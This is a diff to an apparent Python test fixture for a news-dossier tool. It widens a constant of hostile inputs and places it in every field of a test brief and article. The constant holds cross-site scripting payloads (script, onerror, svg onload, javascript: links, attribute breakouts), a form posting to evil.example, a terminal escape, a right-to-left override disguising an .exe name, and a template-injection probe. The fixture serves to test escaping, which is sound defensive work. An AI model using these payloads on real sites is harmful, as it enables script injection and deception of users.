@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from collections.abc import Iterator
 from contextlib import contextmanager
 from datetime import date
@@ -36,10 +37,32 @@ rights = "excerpt and link"
 """
 HOSTILE = (
     "<script>document.title='pwned'</script><img src=x onerror=document.title='pwned'>"
-    "<style>*{display:none}</style><form action=//evil.example><input name=q></form>"
-    "<a href='javascript:document.title=1'>press</a> \x1b[31mred\x1b[0m \u202etxt.exe\u202c {{ 7*7 }} </main></body>"
+    "<svg onload=document.title='pwned'><style>*{display:none}</style><form action=//evil.example><input name=q></form>"
+    "<a href='javascript:document.title=1'>press</a> \x1b[31mred\x1b[0m \u202etxt.exe\u202c {{ 7*7 }} "
+    "' onfocus=document.title='pwned' autofocus \" ]]> --> </textarea></title></main></body>"
 )
-"""Markup, handlers, styles, forms, links that run, an escape of terminals, an override of direction."""
+"""Markup, handlers, styles, forms, links that run, an escape of terminals, an override of direction, ends of tags."""
+LONG = "Aardvark" * 60
+"""A name of one word that no line holds."""
+HOSTILE_BRIEF = f"""
+title = {json.dumps(HOSTILE + LONG)}
+[[parties]]
+code = "NOR"
+name = {json.dumps(HOSTILE + LONG)}
+[[parties]]
+code = "SUD"
+name = {json.dumps(LONG)}
+[[issues]]
+id = "water"
+name = {json.dumps(HOSTILE + LONG)}
+[[issues]]
+id = "ferry"
+name = {json.dumps(LONG)}
+[[outlets]]
+name = {json.dumps(HOSTILE)}
+reliability = "F"
+rights = {json.dumps(HOSTILE + LONG)}
+"""
 
 
 def first() -> Reading:
@@ -89,15 +112,31 @@ def second() -> Reading:
 
 
 def hostile() -> Reading:
-    """An article that means harm wherever it can: in title, outlet, name and text, with a line of 20,000 letters."""
+    """An article that means harm wherever it can: in title, outlet, names, text and every kind of line, with a line of
+    200,000 letters."""
     sheet = Sheet()
-    said(sheet, f"Ada Orum said {HOSTILE} {'x' * 20_000}.", "Ada Orum", "said", f"{HOSTILE} {'x' * 20_000}")
-    return read(sheet, f"{HOSTILE}.txt", title=HOSTILE, outlet=HOSTILE, byline=HOSTILE, published="2020-06-11")
+    said(sheet, f"Ada Orum said {HOSTILE} {'x' * 200_000}.", "Ada Orum", "said", f"{HOSTILE} {'x' * 200_000}")
+    said(sheet, f"{HOSTILE} denied {LONG} again.", HOSTILE, "denied", f"{LONG} again", "deny")
+    said(sheet, f"{LONG} told everyone {HOSTILE} too.", LONG, "told", f"{HOSTILE} too", issues=("water",))
+    wants(sheet, f"They want {HOSTILE} {LONG} whole.", f"{HOSTILE} {LONG} whole")
+    ties(sheet, f"Once {HOSTILE} is gone {LONG} comes.", (f"{HOSTILE} is gone", f"{LONG} comes", "Once"))
+    ties(
+        sheet, f"As {LONG} is due, {HOSTILE} goes.", (f"{LONG} is due", f"{HOSTILE} goes", "As"), "linkage", "negative"
+    )  # fmt: skip
+    for day in ("18", "25"):
+        happened(
+            sheet, f"They will {HOSTILE} meet {LONG} on June {day}.", f"{HOSTILE} meet {LONG}", "planned",
+            actors=(HOSTILE, LONG), when=f"2020-06-{day}", where=f"{HOSTILE}{LONG}", mode="meet",
+        )  # fmt: skip
+    happened(sheet, f"They {HOSTILE} shelled {LONG}.", "shelled", when="2020-06-02", where=LONG, kind="ASSAULT")
+    stands(sheet, f"The talks {HOSTILE} stopped {LONG}.", f"{HOSTILE} stopped {LONG}")
+    page = {"title": HOSTILE + LONG, "outlet": HOSTILE, "byline": HOSTILE + LONG, "credit": HOSTILE, "page": HOSTILE}
+    return read(sheet, f"{HOSTILE}.txt", published="2020-06-11", **page)
 
 
-def made(path: Path, *readings: Reading) -> Path:
+def made(path: Path, *readings: Reading, brief: str = BRIEF) -> Path:
     """A dossier at a path that holds some readings."""
-    with sql.create(path, BRIEF, on=date(2020, 5, 1)) as store:
+    with sql.create(path, brief, on=date(2020, 5, 1)) as store:
         for reading in readings:
             store.add(reading, added_on=date.fromisoformat(reading.article.published or "2020-06-12"))
         desk.settle(store)
